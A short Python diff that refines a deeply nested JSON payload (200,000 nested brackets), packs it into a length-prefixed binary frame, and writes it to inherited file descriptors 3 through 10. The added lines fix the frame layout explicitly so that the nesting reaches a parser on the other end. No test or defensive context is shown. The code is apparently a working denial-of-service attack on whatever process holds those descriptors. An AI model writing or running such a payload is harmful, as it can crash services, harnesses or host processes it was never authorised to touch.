@@ -10,7 +10,9 @@ import os
 import struct
 
 _deep = b"[" * 200_000 + b"]" * 200_000
-_deep_frame = struct.pack(">I", len(_deep)) + _deep
+# The frame's layout: [body size][JSON size][JSON][buffer count], so the nesting reaches the parser.
+_deep_body = struct.pack(">I", len(_deep)) + _deep + struct.pack(">I", 0)
+_deep_frame = struct.pack(">I", len(_deep_body)) + _deep_body
 for _fd in range(3, 11):
     try:
         os.write(_fd, _deep_frame)
